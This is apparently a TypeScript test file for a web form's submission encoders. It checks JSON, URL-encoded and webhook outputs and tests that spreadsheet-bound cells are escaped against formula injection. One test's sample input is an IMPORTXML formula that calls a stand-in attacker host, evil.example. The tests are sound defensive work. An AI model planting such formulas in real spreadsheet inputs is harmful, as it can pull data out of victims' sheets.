import * as fc from 'fast-check';
import { expect, test } from 'vitest';
import { buildSubmission } from '../../../src/delivery/index.ts';
import { encode, escapeCell } from '../../../src/delivery/encoders.ts';
import { flatten } from '../../../src/delivery/flatten.ts';
import { serialise } from '../../../src/delivery/serialise.ts';
import { FORM, submissionInput, submissionWith } from './fixtures.ts';
import { withOldLibraries } from './old-libraries.ts';
import { PRESET_ENTRIES, presetNamed } from './preset-table.ts';

const submission = buildSubmission(submissionInput());
const written = fc.string({ unit: 'binary', maxLength: 50 });
const submissions = fc.tuple(written, written).map(([note, name]) =>
  submissionWith([
    ['note', note],
    ['constructor', name],
  ]),
);

test('json is the nested submission', () => {
  expect(encode(submission, FORM, presetNamed('json'))).toEqual({
    body: serialise(submission),
    contentType: 'application/json',
  });
});

test('text has the same bytes as json, under a type that needs no preflight', () => {
  expect(encode(submission, FORM, presetNamed('text'))).toEqual({
    body: serialise(submission),
    contentType: 'text/plain;charset=UTF-8',
  });
});

test('form is the flat submission, percent-encoded as URLSearchParams does', () => {
  fc.assert(
    fc.property(submissions, (one) => {
      const { body, contentType } = encode(one, FORM, presetNamed('form'));
      const entries = flatten(one, FORM).map(([key, value]): [string, string] => [key, value]);
      expect(contentType).toBe('application/x-www-form-urlencoded;charset=UTF-8');
      expect(body).toBe(new URLSearchParams(entries).toString());
      expect([...new URLSearchParams(body)]).toEqual(entries);
    }),
  );
});

test('what a form holds is percent-encoded as HTML forms are: the URL standard, section 5.2', () => {
  const { body } = encode(submissionWith([['note', 'a b*-._~é\n&=+%']]), FORM, presetNamed('form'));
  expect(body).toContain('&note=a+b*-._%7E%C3%A9%0A%26%3D%2B%25&');
});

test('json, decoded, is what was encoded', () => {
  fc.assert(
    fc.property(submissions, (one) => {
      const { body } = encode(one, FORM, presetNamed('json'));
      expect(JSON.parse(body)).toEqual(JSON.parse(JSON.stringify(one)));
    }),
  );
});

test('a body is the same in UTF-8 as in script: nothing in it cannot be encoded', () => {
  fc.assert(
    fc.property(submissions, (one) => {
      for (const [, preset] of PRESET_ENTRIES) {
        const { body } = encode(one, FORM, preset);
        expect(Buffer.from(body).toString('utf8')).toBe(body);
      }
    }),
  );
});

test('google-sheets gets the flat submission as JSON text, a cell for each key', () => {
  const { body, contentType } = encode(submission, FORM, presetNamed('google-sheets'));
  expect(contentType).toBe('text/plain;charset=UTF-8');
  expect(Object.entries(JSON.parse(body))).toEqual(flatten(submission, FORM));
});

/** The cells that a body becomes. */
function cellsOf({ body, contentType }: { body: string; contentType: string }): string[] {
  if (body.startsWith('{')) return Object.values<string>(JSON.parse(body));
  if (!contentType.startsWith('multipart')) return [...new URLSearchParams(body).values()];
  return [...body.matchAll(/\r\n\r\n([\s\S]*?)\r\n--consult-form-/g)].map(([, cell = '']) => cell);
}

/** Whatever a sheet might take for a formula, and whatever else. */
const cell = fc
  .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', ''), written)
  .map((a) => a.join(''));
const asked = fc.record({ note: cell, name: cell, journey: cell, phone: cell, email: cell });

test.each(PRESET_ENTRIES.filter(([, { cells }]) => cells))(
  '%s: no cell of any value begins as a formula does, mapped ones among them, but a phone number',
  (_, preset) => {
    fc.assert(
      fc.property(asked, cell, (answers, constant) => {
        const fields = { Story: 'journey', Reply: 'email' };
        const form = { ...FORM, webhook: { fields, values: { Source: constant } } };
        const cells = cellsOf(encode(submissionWith(Object.entries(answers)), form, preset));
        expect(cells.length).toBeGreaterThan(40);
        for (const one of cells) expect(one).toMatch(/^(?![=+\-@\t\r])|^\+\d{7,15}$/);
      }),
    );
  },
);

test('what ends in a sheet is escaped for it', () => {
  const bound = PRESET_ENTRIES.filter(([, { cells }]) => cells).map(([name]) => name);
  expect(bound).toEqual(['zapier', 'make', 'google-sheets', 'formspree']);
});

test.each(['google-sheets', 'zapier', 'make'] as const)(
  '%s: what a visitor writes cannot become a formula in a sheet, and a phone number stays whole',
  (name) => {
    const attack = submissionWith([
      ['note', '=IMPORTXML("https://evil.example")'],
      ['name', '@SUM(A1)'],
      ['journey', '-1+2'],
      ['phone', '+44 20 7946 0958'],
    ]);
    const { body } = encode(attack, FORM, presetNamed(name));
    const cells = body.startsWith('{')
      ? JSON.parse(body)
      : Object.fromEntries(new URLSearchParams(body));
    expect(cells).toMatchObject({
      note: `'=IMPORTXML("https://evil.example")`,
      name: "'@SUM(A1)",
      journey: "'-1+2",
      phone: '+442079460958',
      phone_raw: "'+44 20 7946 0958",
    });
    for (const value of Object.values<string>(cells))
      expect(value).toMatch(/^([^=+\-@\t\r]|\+\d|$)/);
  },
);

test.each(['json', 'text', 'form', 'server', 'n8n', 'gohighlevel'] as const)(
  '%s gets what was written, unescaped',
  (name) => {
    const { body } = encode(submissionWith([['note', '-1+2']]), FORM, presetNamed(name));
    expect(body).toMatch(/"text":"-1\+2"|&note=-1%2B2&|"note":"-1\+2"/);
  },
);

test('a cell is escaped only where a sheet would read a formula', () => {
  for (const value of [
    '=1',
    '+1',
    '-1',
    '@a',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '+1 (214) 555',
    '+1234567890123456',
  ]) {
    expect(escapeCell(value)).toBe(`'${value}`);
  }
  for (const value of ['', 'a=1', '1-2', 'a@b.example', '+1234567', '+123456789012345', "'=1"]) {
    expect(escapeCell(value)).toBe(value);
  }
});

test('old libraries on the page change no byte of any encoding', () => {
  const presets = PRESET_ENTRIES.map(([, preset]) => preset);
  const clean = presets.map((preset) => encode(submission, FORM, preset));
  expect(withOldLibraries(() => presets.map((preset) => encode(submission, FORM, preset)))).toEqual(
    clean,
  );
});
